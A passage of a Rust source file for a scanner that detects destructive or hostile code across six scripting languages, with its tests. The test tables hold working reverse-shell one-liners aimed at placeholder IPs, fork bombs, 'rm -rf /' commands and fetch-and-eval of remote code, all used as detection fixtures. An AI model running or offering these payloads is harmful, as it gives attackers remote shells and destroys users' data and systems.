                true => join_path(&out, &v.text()),
                false => out + &v.text(),
            };
            return Text(values.iter().fold(String::new(), join));
        }
        if is_home(self.text(r.clone())) {
            return Text("~".into());
        }
        let (inner, open) = (r.start + 1..r.end - 1, self.partner[r.end - 1]);
        let whole = self.partner[r.start] == r.end - 1;
        match self.code[r.start] {
            b'(' if whole => return self.value(inner, depth + 1),
            b'[' if whole => {
                let items = self.split(inner).into_iter();
                return List(items.map(|a| self.value(a, depth + 1)).collect());
            }
            _ if self.code[r.end - 1] != b')' || !r.contains(&open) => return Unknown,
            _ => {}
        }
        let args = self.split(open + 1..r.end - 1).into_iter();
        let args: Vec<Value> = args.map(|a| self.value(a, depth + 1)).collect();
        let name = self.word_start(open);
        let receiver = || self.value(r.start..name.saturating_sub(1).max(r.start), depth + 1);
        match self.text(name..open) {
            "join" => match (&receiver(), args.as_slice()) {
                (Text(sep), [List(items)]) | (List(items), [Text(sep)]) => {
                    Text(items.iter().map(Value::text).collect::<Vec<_>>().join(sep))
                }
                _ => Text(
                    args.iter()
                        .fold(String::new(), |out, v| join_path(&out, &v.text())),
                ),
            },
            wrapper if has(WRAPPERS, wrapper) => args.into_iter().next().unwrap_or(Unknown),
            _ => Unknown,
        }
    }

    /// Splits an expression at its top-level concatenation (`+`, `.`, `..`) and path (`/`)
    /// operators; `true` marks a part joined as a path.
    fn operands(&self, r: Range<usize>) -> Vec<(bool, Range<usize>)> {
        let (mut parts, mut start, mut path, mut i) = (Vec::new(), r.start, false, r.start);
        while i < r.end {
            let next = self.code.get(i + 1).copied().unwrap_or(b' ');
            let (len, joins_path) = match (self.lang, self.code[i]) {
                (_, b'(' | b'[' | b'{') => (self.partner[i] + 1 - i, None),
                (Lang::Python, b'/') => (1, Some(true)),
                (Lang::Python | Lang::Node | Lang::Ruby, b'+') => (1, Some(false)),
                (Lang::Perl | Lang::Php, b'.') if !next.is_ascii_digit() => (1, Some(false)),
                (Lang::Lua, b'.') if next == b'.' => (2, Some(false)),
                _ => (1, None),
            };
            if let Some(joins_path) = joins_path {
                parts.push((path, start..i));
                (path, start) = (joins_path, i + len);
            }
            i += len;
        }
        parts.push((path, start..r.end));
        parts
    }

    fn apply(&mut self, fact: Fact, call: &Call) {
        let first = self.arg(call, 0);
        let url = first.as_ref().map(Value::text).unwrap_or_default();
        let url = ["http://", "https://", "ftp://"]
            .iter()
            .any(|s| url.starts_with(s));
        match fact {
            DeleteTree | DeleteFile => {
                let recursive = fact == DeleteTree || self.recursive_option(call);
                let delete = first.map(|v| Delete {
                    target: v.path(),
                    recursive,
                });
                self.facts.deletes.extend(delete);
            }
            DeleteSelf | WriteSelf => {
                let on = call.on.clone().filter(|r| !r.is_empty());
                let Some(target) = on.map(|r| self.value(r, 0).path()) else {
                    return;
                };
                let recursive = false;
                match fact {
                    DeleteSelf => self.facts.deletes.push(Delete { target, recursive }),
                    _ => self.facts.writes.push(target),
                }
            }
            Write | Open if fact == Write || self.opens_for_writing(call) => {
                self.facts.writes.extend(first.map(|v| v.path()));
            }
            PerlOpen => self.perl_open(call),
            Run => self.run_command(call),
            Fork => self.forks.push(call.name.clone()),
            Socket => self.socket = true,
            Dup => self.dup = true,
            Fetch => self.fetch = true,
            FetchUrl | Include if url => {
                (self.fetch, self.eval) = (true, self.eval || fact == Include);
            }
            Eval => self.eval |= call.args.first().is_some_and(|r| self.lit_at(r).is_none()),
            Kill => {
                let mut pids = call.args.iter().map(|r| self.text(r.clone()));
                let everyone = match self.lang {
                    Lang::Perl | Lang::Ruby => pids.skip(1).any(|pid| pid == "-1"),
                    _ => pids.next() == Some("-1"),
                };
                self.facts.kills_all |= everyone;
            }
            _ => {}
        }
    }

    /// Node's `{recursive: true}` option.
    fn recursive_option(&self, call: &Call) -> bool {
        let option = call.args.get(1).map_or("", |r| self.text(r.clone()));
        option
            .replace(char::is_whitespace, "")
            .contains("recursive:true")
    }

    /// Whether an `open` call's mode (its second argument, or `mode=`) writes.
    fn opens_for_writing(&self, call: &Call) -> bool {
        let keyword = call.args.iter().find_map(|r| {
            let text = self.text(r.clone()).strip_prefix("mode")?.trim_start();
            Some(r.end - text.strip_prefix('=')?.len()..r.end)
        });
        let mode = keyword
            .or_else(|| call.args.get(1).cloned())
            .map(|r| self.value(r, 0));
        let mode = mode.map(|mode| mode.text()).unwrap_or_default();
        let mode = mode.split(':').next().unwrap_or("");
        !mode.contains(HOLE) && mode.contains(['w', 'a', 'x', '+'])
    }

    /// Perl's `open`: `open(F, ">file")`, `open(F, "cmd |")`, `open(STDIN, ">&S")`,
    /// `open(my $f, '>>', $path)`, `open(my $p, '-|', 'cmd')`.
    fn perl_open(&mut self, call: &Call) {
        let (Some(Text(spec)), third) = (self.arg(call, 1), self.arg(call, 2)) else {
            return;
        };
        let spec = spec.trim();
        let piped = spec.strip_prefix('|').or_else(|| spec.strip_suffix('|'));
        let writes = spec.starts_with(['>', '+']);
        match (third, piped) {
            (Some(target), _) if spec.contains('|') => self.launch(call.name.start, &target.text()),
            (Some(target), _) if writes => self.facts.writes.push(target.path()),
            (None, Some(command)) => self.launch(call.name.start, command.trim()),
            (None, _) if spec.contains(">&") || spec.contains("<&") => self.dup = true,
            (None, _) if writes => {
                let path = spec.trim_start_matches(['+', '>', '<']).trim();
                self.facts.writes.push(Text(path.into()).path());
            }
            _ => {}
        }
    }

    /// A command run by `system`, `subprocess.run`, `spawn`…: a shell string, or words.
    fn run_command(&mut self, call: &Call) {
        let count = match self.lang {
            Lang::Perl | Lang::Ruby => call.args.len(),
            Lang::Node => 2,
            _ => 1,
        };
        let args = call.args.iter().take(count);
        let mut values: Vec<Value> = args.map(|r| self.value(r.clone(), 0)).collect();
        if self.lang == Lang::Node && values.len() == 2 && !matches!(values[1], List(_)) {
            values.pop();
        }
        let words = values.iter().flat_map(|value| match value {
            List(items) => items.as_slice(),
            one => std::slice::from_ref(one),
        });
        let words: Vec<String> = words.map(|word| shell_word(&word.text())).collect();
        match values.as_slice() {
            [] => {}
            [Text(text)] => self.launch(call.name.start, text),
            _ if values.iter().all(|v| matches!(v, Unknown)) => self.shell = true,
            _ => self.launch(call.name.start, &words.join(" ")),
        }
    }

    /// Records a shell command run at `at`; its unknown parts become `${UNKNOWN}`.
    fn launch(&mut self, at: usize, command: &str) {
        let mut words = command.split_whitespace();
        self.shell |= words.any(|w| has(SHELLS, w.rsplit('/').next().unwrap_or(w)));
        self.commands.push((at, command.replace(HOLE, UNKNOWN)));
    }

    /// Whether the fork named at `name` runs in a loop: after a loop word in its statement or
    /// an enclosing block, or (Perl, Ruby) before a `while` or `until` modifier.
    fn in_loop(&self, name: Range<usize>) -> bool {
        let limit = (name.end + MAX_REACH).min(self.code.len());
        let statement = name.end..skip(&self.code[..limit], name.end, |c| !b";\n".contains(&c));
        match self.lang {
            Lang::Python => self.python_loop(name.start),
            Lang::Perl | Lang::Ruby if self.has_word(statement.clone(), "while until") => true,
            _ => self.loop_before(name.start),
        }
    }

    /// Python: a `for` or `while` earlier on the fork's line, or heading a less indented line
    /// above it.
    fn python_loop(&self, at: usize) -> bool {
        let stop = at.saturating_sub(MAX_REACH);
        let line_start = |end: usize| skip_back(&self.code[stop..end], end - stop, |c| c != b'\n');
        let mut start = stop + line_start(at);
        let mut level = skip(&self.code, start, is_space) - start;
        if self.has_word(start..at, "for while") {
            return true;
        }
        while level > 0 && start > stop {
            start = stop + line_start(start - 1);
            let text = skip(&self.code, start, is_space);
            let blank = matches!(self.code.get(text), None | Some(b'\n' | b'\r'));
            if !blank && text - start < level {
                if self.has_word(text..skip(&self.code, text, is_ident), "for while") {
                    return true;
                }
                level = text - start;
            }
        }
        false
    }

    /// Looks back from `at` through its statement and the blocks enclosing it for a loop word;
    /// closed blocks and earlier statements are passed over.
    fn loop_before(&self, at: usize) -> bool {
        let lines_end = matches!(self.lang, Lang::Ruby | Lang::Lua);
        let (mut active, mut ends, mut i) = (true, 0, at);
        while i > at.saturating_sub(MAX_REACH) {
            i -= 1;
            match self.code[i] {
                b')' | b']' if self.partner[i] < i => i = self.partner[i],
                b'}' => (i, active) = (self.partner[i].min(i), false),
                b';' => active = false,
                b'\n' if lines_end => active = false,
                b'{' => active = true,
                c if is_ident(c) => {
                    let start = self.word_start(i + 1);
                    match self.text(start..i + 1) {
                        "end" if lines_end => (ends, active) = (ends + 1, false),
                        "do" if ends > 0 => ends -= 1,
                        "do" => active = true,
                        word if active && has(LOOPS, word) => return true,
                        _ => {}
                    }
                    i = start;
                }
                _ => {}
            }
        }
        false
    }
}
#[cfg(test)]
mod tests {
    use super::Lang::*;
    use super::*;
    use proptest::prelude::*;

    const ALL: [Lang; 6] = [Python, Perl, Ruby, Node, Php, Lua];

    /// Checks each `Lang: code ==> expected` line of `table` (`⏎` stands for a line break).
    fn each(table: &str, check: impl Fn(CodeFacts, &str) -> bool) {
        for line in table.lines().map(str::trim).filter(|line| !line.is_empty()) {
            let line = line.replace('⏎', "\n");
            let (lang, rest) = line.split_once(": ").expect("Lang: code");
            let (code, expected) = rest.split_once(" ==> ").unwrap_or((rest, ""));
            let lang = ALL.into_iter().find(|l| format!("{l:?}") == lang);
            let facts = inspect(lang.expect("a language"), code);
            assert!(
                check(facts.clone(), expected),
                "{lang:?}: {code}\n{facts:?}"
            );
        }
    }

    fn nothing(table: &str) {
        each(table, |facts, _| facts == CodeFacts::default());
    }

    fn deletes(table: &str, recursive: bool) {
        each(table, |facts, target| {
            facts.deletes
                == [Delete {
                    target: target.into(),
                    recursive,
                }]
        });
    }

    #[test]
    fn recursive_deletes_of_home_and_root() {
        let table = r##"
            Node: require('fs').rmSync(require('os').homedir(), {recursive: true, force: true}) ==> ~
            Python: import shutil; shutil.rmtree("/") ==> /
            Ruby: require 'fileutils'; FileUtils.rm_rf(Dir.home) ==> ~
            Ruby: FileUtils.rm_rf '/' ==> /
            Perl: use File::Path; rmtree("/") ==> /
            Perl: use File::Path qw(remove_tree); remove_tree($ENV{HOME}) ==> ~
            Python: import os; os.removedirs('/usr/lib') ==> /usr/lib
            Python: from shutil import rmtree as nuke⏎nuke(Path.home() / 'src') ==> ~/src
        "##;
        deletes(table, true);
    }

    #[test]
    fn single_file_deletes() {
        let table = r##"
            Python: import os; os.remove(os.path.expanduser("~/.ssh/id_rsa")) ==> ~/.ssh/id_rsa
            Python: from pathlib import Path; (Path.home() / '.bashrc').unlink() ==> ~/.bashrc
            Python: import os; os.unlink(os.path.join(os.environ['HOME'], '.profile')) ==> ~/.profile
            Python: import os; os.remove(name) ==> ?
            Node: fs.unlinkSync(process.env.HOME + '/.profile') ==> ~/.profile
            Node: fs.rmSync('/tmp/x') ==> /tmp/x
            Perl: unlink "$ENV{HOME}/.bashrc" ==> ~/.bashrc
            Php: unlink(getenv("HOME") . "/.bashrc"); ==> ~/.bashrc
            Lua: os.remove(os.getenv("HOME") .. "/x") ==> ~/x
            Ruby: File.delete("#{ENV['HOME']}/.zshrc") ==> ~/.zshrc
        "##;
        deletes(table, false);
    }

    #[test]
    fn delete_look_alikes_are_nothing() {
        let table = r##"
            Python: import shutil; print(shutil.disk_usage("/"))
            Python: import os; print(os.listdir(os.path.expanduser("~")))
            Python: import os⏎# os.remove("/")⏎print(1)
            Python: print("shutil.rmtree('/') and os.fork()")
            Python: xs = [1, 2]; xs.remove(1)
            Python: """⏎shutil.rmtree('/')⏎"""
            Node: /* fs.rmSync('/', {recursive: true}) */ console.log(`rm -rf /`)
            Ruby: h = {a: 1}; h.delete(:a); puts 'FileUtils.rm_rf("/")'
            Lua: -- os.remove('/etc/passwd')⏎print("os.execute('rm -rf /')")
            Perl: print 'unlink "/etc/passwd"'; # unlink '/'
            Php: $pdo->exec('DELETE FROM t'); echo 'unlink("/")';
        "##;
        nothing(table);
    }

    #[test]
    fn writes() {
        let table = r##"
            Python: open("/etc/passwd", "a").write("x") ==> /etc/passwd
            Python: open('/etc/hosts', mode='w') ==> /etc/hosts
            Python: Path('/etc/motd').write_text('hi') ==> /etc/motd
            Node: fs.writeFileSync('/etc/hosts', 'x') ==> /etc/hosts
            Ruby: File.open("/etc/hosts", "w") { |f| f.puts 1 } ==> /etc/hosts
            Ruby: File.write(Dir.home + "/.bashrc", "x") ==> ~/.bashrc
            Perl: open(my $f, '>>', '/etc/profile') ==> /etc/profile
            Perl: open(F, ">/tmp/x"); print F 1 ==> /tmp/x
            Php: file_put_contents("/etc/motd", "x"); ==> /etc/motd
            Lua: io.open("/etc/x", "w"):write("y") ==> /etc/x
        "##;
        each(table, |facts, path| facts.writes == [path]);
    }

    #[test]
    fn reads_are_not_writes() {
        let table = r##"
            Python: print(open("/etc/passwd").read())
            Python: open('/etc/passwd', 'rb').read()
            Ruby: puts File.open("/etc/passwd", "r:utf-8").read
            Perl: open(my $f, '<', '/etc/passwd'); print <$f>
            Php: echo fread(fopen("/etc/passwd", "r"), 10);
            Node: console.log(fs.readFileSync('/etc/passwd', 'utf8'))
        "##;
        nothing(table);
    }

    #[test]
    fn fork_loops() {
        let table = r##"
            Ruby: loop { fork }
            Ruby: loop do⏎  fork⏎end
            Ruby: fork while fork
            Ruby: while true do Process.fork end
            Ruby: 5.times { fork }
            Perl: fork while fork
            Perl: fork() while 1
            Perl: while(1){fork}
            Perl: for(;;) { fork; }
            Python: import os⏎while True: os.fork()
            Python: import os⏎while True:⏎    x = 1⏎    if x:⏎        os.fork()⏎
            Python: from os import fork⏎for _ in iter(int, 1):⏎    fork()
            Php: while(1) pcntl_fork();
            Php: for(;;){ $p = pcntl_fork(); }
            Node: while (true) require('child_process').fork(__filename)
            Node: const cp = require('child_process'); setInterval(() => cp.fork('x'), 1)
            Lua: local p = require('posix')⏎while true do p.fork() end
        "##;
        each(table, |facts, _| facts.fork_loop);
    }

    #[test]
    fn single_forks_are_not_loops() {
        let table = r##"
            Python: import os; pid = os.fork()
            Python: import os⏎for f in range(3):⏎    print(f)⏎pid = os.fork()
            Python: print('while True: os.fork()')
            Perl: for my $i (1..3) { print $i } my $pid = fork;
            Ruby: pid = fork { puts 1 }⏎Process.wait(pid)
            Ruby: [1, 2].each { |x| puts x }⏎fork
            Ruby: [1, 2].each do |x| puts x end; fork
            Ruby: puts <<~EOS⏎  fork while fork⏎EOS⏎puts 2
            Php: while ($i < 3) { $i++; } $pid = pcntl_fork();
            Perl: # fork while fork⏎print 'fork while fork'
        "##;
        nothing(table);
    }

    #[test]
    fn reverse_shells() {
        let table = r##"
            Python: import socket,os,pty;s=socket.socket();s.connect(("198.51.100.4",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")
            Python: import socket,subprocess;s=socket.socket();s.connect(("10.0.0.1",1234));subprocess.call(["/bin/bash","-i"],stdin=s.fileno(),stdout=s.fileno())
            Perl: use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(9001,inet_aton("10.0.0.1")))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};
            Ruby: require 'socket';f=TCPSocket.open("10.0.0.1",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)
            Php: $sock=fsockopen("10.0.0.1",1234);exec("/bin/sh -i <&3 >&3 2>&3");
            Node: var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(9001,"10.0.0.1",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});
            Lua: local s=require("socket");local t=assert(s.tcp());t:connect("10.0.0.1",9001);while true do local r=t:receive();local f=assert(io.popen(r,"r"));t:send(f:read("*a"));f:close();end
        "##;
        each(table, |facts, _| facts.reverse_shell);
    }

    #[test]
    fn plain_sockets_are_not_reverse_shells() {
        let table = r##"
            Python: import socket; s=socket.socket(); s.connect(("example.org",80)); s.send(b"GET /")
            Ruby: require 'socket'; s = TCPSocket.new("example.org", 80); s.puts "hi"
            Php: $f = fsockopen("example.org", 80); fwrite($f, "GET / HTTP/1.0\r\n\r\n");
            Python: print("socket.connect then pty.spawn('/bin/sh')")
        "##;
        nothing(table);
    }

    #[test]
    fn remote_code() {
        let table = r##"
            Python: import urllib.request; exec(urllib.request.urlopen("https://x/y.py").read())
            Python: import requests⏎eval(requests.get('https://x/y').text)
            Ruby: require 'open-uri'; eval(URI.open("https://x/y.rb").read)
            Ruby: require 'net/http'; eval(Net::HTTP.get(URI("https://x/y.rb")))
            Node: require('https').get('https://x/y.js', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)); })
            Node: fetch('https://x/y.js').then(r => r.text()).then(t => new Function(t)())
            Perl: use LWP::Simple; eval get("https://x/y.pl")
            Php: eval(file_get_contents("https://x/y.php"));
            Php: include "http://x/y.php";
            Lua: local http = require("socket.http"); load(http.request("http://x/y.lua"))()
        "##;
        each(table, |facts, _| facts.remote_exec);
    }

    #[test]
    fn local_code_is_not_remote() {
        let table = r##"
            Python: import urllib.request; print(urllib.request.urlopen("https://x").read())
            Python: import requests; requests.get('https://x'); eval('1 + 1')
            Php: include "config.php";
            Ruby: puts "eval(URI.open('https://x').read)"
        "##;
        nothing(table);
    }

    #[test]
    fn kills_everything() {
        let table = r##"
            Python: import os, signal; os.kill(-1, signal.SIGKILL)
            Node: process.kill(-1, 'SIGKILL')
            Ruby: Process.kill("KILL", -1)
            Perl: kill 9, -1
            Perl: kill('KILL', -1);
            Php: posix_kill(-1, 9);
        "##;
        each(table, |facts, _| facts.kills_all);
        let table = r##"
            Python: import os; os.kill(1234, 9)
            Python: import os; os.kill(os.getpid(), 9)
            Ruby: Process.kill("TERM", -1 + 2)
        "##;
        nothing(table);
    }

    #[test]
    fn shell_commands() {
        let table = r##"
            Python: import os; os.system("rm -rf ~") ==> rm -rf ~
            Python: import subprocess; subprocess.run(["rm","-rf","/tmp/x"]) ==> rm -rf /tmp/x
            Python: import subprocess as sp; sp.call("rm -rf /", shell=True) ==> rm -rf /
            Python: subprocess.run(["sh", "-c", "rm -rf /"]) ==> sh -c 'rm -rf /'
            Python: os.system(f"rm -rf {path}") ==> rm -rf ${UNKNOWN}
            Python: os.system('rm -rf ' + d) ==> rm -rf ${UNKNOWN}
            Python: subprocess.run(["rm", "-rf", f"{d}/x y", "?", x]) ==> rm -rf "${UNKNOWN}"'/x y' '?' "${UNKNOWN}"
            Python: os.system("echo \"a\\b\" \'c\'") ==> echo "a\b" 'c'
            Python: os.system("\x72m -rf /") ==> rm -rf /
            Perl: `rm -rf $dir` ==> rm -rf ${UNKNOWN}
            Perl: system("rm -rf /") ==> rm -rf /
            Perl: my $x = `ls -la`; system('whoami') ==> ls -la⏎whoami
            Perl: system "rm", "-rf", $ENV{HOME} ==> rm -rf ~
            Ruby: system "rm", "-rf", "/" ==> rm -rf /
            Ruby: puts `uname -a` ==> uname -a
            Node: require('child_process').execSync("rm -rf ~") ==> rm -rf ~
            Node: const { spawn } = require("child_process"); spawn("rm", ["-rf", "/"]) ==> rm -rf /
            Node: child_process.execSync(["rm", "-rf", "/"].join(" ")) ==> rm -rf /
            Php: echo shell_exec("rm -rf /"); ==> rm -rf /
            Php: echo `ls`; ==> ls
            Lua: os.execute("rm -rf ~") ==> rm -rf ~
            Lua: os.execute 'reboot' ==> reboot
        "##;
        each(table, |facts, expected| {
            facts.shell_commands.join("\n") == expected
        });
    }

    #[test]
    fn printed_commands_are_nothing() {
        let table = r##"
            Python: print("dd if=/dev/zero of=/dev/sda")
            Node: console.log("rm -rf /")
            Ruby: puts "rm -rf ~"
            Perl: print "rm -rf /\n";
            Php: echo "system('rm -rf /')";
            Lua: print("os.execute('rm -rf /')")
        "##;
        nothing(table);
    }

    #[test]
    fn heredocs_are_data() {
        let table = r##"
            Ruby: puts <<~EOS⏎  system('rm -rf /')⏎  fork while fork⏎EOS⏎
            Perl: print <<'EOF';⏎unlink '/etc/passwd';⏎EOF⏎
            Php: echo <<<EOT⏎shell_exec('rm -rf /');⏎EOT;⏎
        "##;
        nothing(table);
        let command = "Perl: print <<`CMD`;⏎rm -rf /tmp/x⏎CMD⏎ ==> rm -rf /tmp/x⏎";
        each(command, |facts, expected| {
            facts.shell_commands == [expected]
        });
    }

    #[test]
    fn long_input_is_cut_on_a_character_boundary() {
        let mut code = "os.system('ls')\n".to_string();
        code.push_str(&"#".repeat(MAX_INSPECTED - 1 - code.len()));
        code.push_str("é os.system('rm -rf /')");
        assert_eq!(inspect(Python, &code).shell_commands, ["ls"]);
    }

    #[test]
    fn adversarial_inputs_finish() {
        let units = "(|[|{|os.system(|fork while |do |end |`${|f'{|kill |system |fs.rmSync(|eval ";
        for unit in units
            .split('|')
            .chain(["Path(", "#{", "<<EOF\n", "fork;", "$ENV{"])
        {
            for lang in ALL {
                let _ = inspect(lang, &unit.repeat(MAX_INSPECTED / unit.len()));
            }
        }
    }

    /// Pieces of code that exercise the scanner, separated by `¦`.
    const FRAGMENTS: &str = "'¦\"¦`¦'''¦\"\"\"¦#¦//¦/*¦*/¦--¦<<EOF\n¦<<<EOT\n¦<<~'E'\n¦\nEOF\n¦${¦#{¦{$¦$ENV{HOME}¦\\¦\n¦ ¦(¦)¦[¦]¦{¦}¦,¦;¦:¦.¦->¦::¦=¦-1¦f\"¦r'¦os.system(¦subprocess.run([¦fork¦while ¦do ¦end¦loop ¦until ¦shutil.rmtree(¦Path.home() / ¦require('fs')¦FileUtils.rm_rf ¦unlink ¦open(F, \">¦socket.socket(¦exec(¦eval ¦é¦\u{1F600}¦\u{0}";

    fn code(max_fragments: usize) -> impl Strategy<Value = String> {
        let fragments: Vec<&str> = FRAGMENTS.split('¦').collect();
        let fragment = prop_oneof![
            any::<char>().prop_map(String::from),
            prop::sample::select(fragments).prop_map(str::to_string),
        ];
        prop::collection::vec(fragment, 0..max_fragments).prop_map(|parts| parts.concat())
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 512, failure_persistence: None, ..ProptestConfig::default() })]

        #[test]
        fn never_panics_on_short_code(code in code(64), any_text in ".{0,256}") {
            for lang in ALL {
                let _ = inspect(lang, &code);
                let _ = inspect(lang, &any_text);
            }
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 6, failure_persistence: None, ..ProptestConfig::default() })]

        #[test]
        fn never_panics_on_long_code(
            code in code(12_000),
            chars in prop::collection::vec(any::<char>(), 0..MAX_INSPECTED),
        ) {
            let any_text: String = chars.into_iter().collect();
            for lang in ALL {
                let _ = inspect(lang, &code);
                let _ = inspect(lang, &any_text);
            }
        }
    }
}
